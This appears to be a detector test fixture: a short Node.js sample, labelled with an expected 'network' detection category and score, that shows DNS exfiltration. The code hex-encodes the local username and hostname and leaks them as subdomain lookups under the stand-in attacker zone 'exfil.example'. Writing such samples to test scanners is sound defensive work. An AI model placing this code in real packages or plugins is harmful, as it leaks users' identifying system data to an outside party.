// expect: category=network min=75 context=plugin,package
// why: data is hex-encoded into DNS labels under an attacker zone (DNS exfiltration).
const dns = require('dns');
const os = require('os');

const secret = Buffer.from(JSON.stringify({ u: os.userInfo().username, h: os.hostname() }))
  .toString('hex');

for (let i = 0; i < secret.length; i += 60) {
  const label = secret.slice(i, i + 60);
  dns.resolve4(`${i / 60}.${label}.t.exfil.example`, () => {});
}
